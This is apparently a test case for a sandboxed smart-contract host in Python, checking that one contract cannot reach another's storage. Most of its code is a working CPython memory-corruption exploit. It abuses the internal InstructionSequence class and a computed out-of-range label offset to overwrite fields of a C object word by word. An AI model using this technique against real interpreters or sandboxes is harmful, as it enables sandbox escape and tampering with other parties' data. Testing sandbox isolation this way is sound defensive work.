# attack: the fields of the C object behind chain are overwritten, word by word, one in each run: ids, counts, pointers
# fence: a contract can only reach its own storage, whatever the object says: the host adds its address to every key
# screened: S105
# step: deploy victim [] => success {'secret': 1}
# step: deploy attack ["honest"] => success {'a': {'n': 1}}
# step: send attack [2] => *
# step: send attack [4] => *
# step: send attack [5] => *
# step: send attack [6] => *
# step: send attack [8] => *
# step: send attack [16] => *
# step: send attack [28] => *
# step: send attack [30] => *
# step: send attack [40] => *
# step: call victim [] => success {'secret': 1}
if args == ["honest"]:
    chain["a"] = {"n": 1}
    finish(chain)
sequence = next(c for c in object.__subclasses__() if c.__name__ == "InstructionSequence")()
block = bytes(20)
at = id(block)
block = None
sequence.use_label(0)
for _ in range(1000):
    sequence.addop(1, 0, 0, 0, 0, 0)
offset = (id(chain) + 4 * args[0] - at) >> 2
sequence.use_label(offset - 2**30 if offset >= 0 else offset)
chain["b"] = {"new": [1]}
finish([len(chain), repr(chain)[:200]])
#--- contract victim
chain["secret"] = 1
finish(chain)
